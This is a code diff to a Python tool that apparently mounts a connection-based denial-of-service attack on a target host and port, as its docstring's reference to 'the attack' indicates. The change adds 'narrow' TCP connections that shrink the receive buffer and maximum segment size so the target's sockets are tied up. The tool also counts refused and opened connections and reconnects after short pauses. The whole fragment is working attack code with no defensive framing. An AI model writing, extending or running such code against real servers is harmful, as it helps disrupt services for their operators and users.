@@ -33,6 +33,8 @@ _READ_BYTES = 1 << 20
 _TURNS = 4
 _CONNECT_S = 1.0
 _HANDSHAKE_S = 2.0
+# Of connections that keep few bytes.
+_NARROW_BUFFER_BYTES, _NARROW_SEGMENT_BYTES = 2048, 536
 # Before a connection is opened again that was refused or closed at once.
 _RECONNECT_PAUSE_S = 0.01
 _SHORT_LIFE_S = 0.05
@@ -140,18 +142,25 @@ class Attempt:
         time.sleep(max(0.0, min(seconds, self.left_s)))
         self.check()
 
-    def try_connect(self) -> socket.socket | None:
+    def try_connect(self, *, is_narrow: bool = False) -> socket.socket | None:
         """Open a TCP connection and say nothing; None when it was refused.
+
+        A narrow one takes small segments into a small buffer, so that the server's socket keeps little, too.
 
         Raises:
             TimeIsUpError: the attack is over.
         """
         self.check()
+        connected = socket.socket()
         try:
-            connected = socket.create_connection(
-                (self.target.host, self.target.port), _CONNECT_S, (self.target.source, 0)
-            )
+            if is_narrow:
+                connected.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _NARROW_BUFFER_BYTES)
+                connected.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, _NARROW_SEGMENT_BYTES)
+            connected.settimeout(_CONNECT_S)
+            connected.bind((self.target.source, 0))
+            connected.connect((self.target.host, self.target.port))
         except OSError:
+            connected.close()
             self.tally["refused"] += 1
             return None
         self.tally["connections"] += 1
